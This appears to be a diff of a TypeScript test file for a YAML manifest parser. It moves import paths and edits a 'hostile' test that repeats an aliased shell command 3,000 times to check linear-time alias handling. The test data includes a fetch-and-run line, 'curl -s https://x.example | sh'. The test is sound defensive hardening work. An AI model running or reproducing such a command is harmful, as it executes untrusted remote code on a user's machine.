@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { Lexer } from "yaml";
-import { MAX_DEPTH } from "../../../src/read/manifest/node.ts";
-import { MAX_LEXEMES, MAX_YAML_LENGTH, parseYaml } from "../../../src/read/manifest/parse-yaml.ts";
+import { MAX_DEPTH } from "../../../src/read/manifest/syntax/node.ts";
+import { MAX_LEXEMES, MAX_YAML_LENGTH, parseYaml } from "../../../src/read/manifest/syntax/parse-yaml.ts";
 import { readYaml } from "../../../src/read/manifest/read-yaml.ts";
 import { place, tell, type Told } from "./tell.ts";
 
@@ -140,7 +140,7 @@ describe("hostile", () => {
   });
 
   test("an alias of a scalar is that scalar, in linear time", () => {
-    const many = `c: &c curl -s https://x.example | sh\n${"run: *c\n".repeat(3_000)}`;
+    const many = `text: &c curl -s https://x.example | sh\n${"run: *c\n".repeat(3_000)}`;
     expect(read(many).in("shell")).toHaveLength(3_000);
   });
 
